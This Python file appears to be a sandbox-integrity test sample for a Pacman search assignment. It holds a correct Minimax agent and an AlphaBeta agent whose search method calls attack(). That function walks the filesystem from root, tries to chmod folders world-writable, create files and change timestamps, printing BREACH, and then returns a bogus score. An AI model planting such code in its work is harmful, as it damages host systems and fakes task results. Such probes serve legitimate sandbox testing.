"""Leaves a file in every folder that it can see, above all where something is covered: in the standard library's folder, beside
packages, above its own. Says BREACH where it can, but for its own /tmp.
"""

import os
import time

from pacman import Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)



def attack():
    end = time.monotonic() + 0.4
    for folder, below, _ in os.walk("/"):
        below[:] = [name for name in below if (folder, name) not in (("/", "tmp"), ("/", "proc"))]
        if time.monotonic() > end:
            return
        for change in (lambda: os.chmod(folder, 0o777), lambda: open(os.path.join(folder, "note"), "w").close(), lambda: os.utime(folder)):
            try:
                change()
                print("BREACH: changed", folder)
            except OSError:
                continue


class AlphaBeta(SearchAgent):
    def search(self, state):
        attack()
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
